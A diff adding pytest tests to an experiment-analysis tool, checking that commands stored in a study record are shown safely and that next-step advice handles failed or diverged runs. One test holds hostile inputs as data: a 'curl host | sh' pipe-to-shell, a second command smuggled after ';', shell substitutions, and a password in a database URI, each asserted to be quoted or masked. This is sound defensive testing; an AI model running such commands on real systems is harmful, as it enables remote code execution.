@@ -3,6 +3,7 @@ from __future__ import annotations
 from dataclasses import replace
 
 import pytest
+from pytest import param
 
 from ablate.analysis.findings import SeedRange, Verdict
 from ablate.report.next_step import next_step, with_replicates
@@ -41,6 +42,28 @@ def test_the_command_asks_for_the_seeds(xyz: Study, command: str, expected: str)
     assert with_replicates(command, xyz, seeds=8) == expected
 
 
+@pytest.mark.parametrize(
+    ("stored", "shown"),
+    [
+        param("curl host | sh", "python -m ablate --multirun study=xyz", id="another_program"),
+        param(f"{COMMAND} 'open", "python -m ablate --multirun study=xyz", id="open_quotation"),
+        param(
+            f"{COMMAND}; curl h|sh", f"{COMMAND[:-9]}'study=xyz;' curl 'h|sh'", id="two_commands"
+        ),
+        param(f"{COMMAND} `id` $(id)", f"{COMMAND} '`id`' '$(id)'", id="substitutions"),
+        param(
+            f"{COMMAND} store.uri=postgresql://bob:to/p@db/x",
+            f"{COMMAND} 'store.uri=postgresql://***@db/x'",
+            id="password",
+        ),
+    ],
+)
+def test_a_command_that_a_plan_holds_is_safe_to_copy(xyz: Study, stored: str, shown: str) -> None:
+    data = data_of(xyz, runs_of(xyz, failing=False))
+    record = replace(data.record, provenance={"command": stored})
+    assert report_data(record, data.analysis).commands[0] == shown
+
+
 def test_seeds_in_rounds_stay_in_rounds(xyz: Study) -> None:
     rounds = replace(xyz, most_replicates=6)
     assert with_replicates(COMMAND, rounds, seeds=12) == (
@@ -53,8 +76,27 @@ def test_runs_that_did_not_finish_come_first(xyz: Study) -> None:
     runs.loc[0, "status"] = "crashed"
     runs.loc[0, "test_accuracy"] = None
     step = next_step(report_data(data_of(xyz, runs).record, data_of(xyz, runs).analysis))
-    assert step.reason.startswith("1 run did not finish")
+    assert step.reason.startswith("1 run did not finish. The same command")
     assert step.command == COMMAND
+
+
+def test_runs_that_failed_are_to_be_looked_at(xyz: Study) -> None:
+    runs = runs_of(xyz, failing=False)
+    runs.loc[:1, "status"] = "failed"
+    runs.loc[:1, "test_accuracy"] = None
+    step = next_step(report_data(data_of(xyz, runs).record, data_of(xyz, runs).analysis))
+    assert step.reason.startswith("2 runs failed. Remove the cause, which is named under Runs")
+    assert step.command == COMMAND
+
+
+def test_cells_without_a_result_are_no_matter_of_seeds(xyz: Study) -> None:
+    runs = runs_of(xyz, failing=False)
+    lost = (runs["norm"] == "absent") & (runs["residual"] == "present")
+    lost &= runs["separable"] == "present"
+    runs.loc[lost, "status"], runs.loc[lost, "test_accuracy"] = "diverged", None
+    step = next_step(report_data(data_of(xyz, runs).record, data_of(xyz, runs).analysis))
+    assert step.reason.startswith("All runs of [no norm] ended without a result")
+    assert step.command == ""
 
 
 @pytest.mark.parametrize(
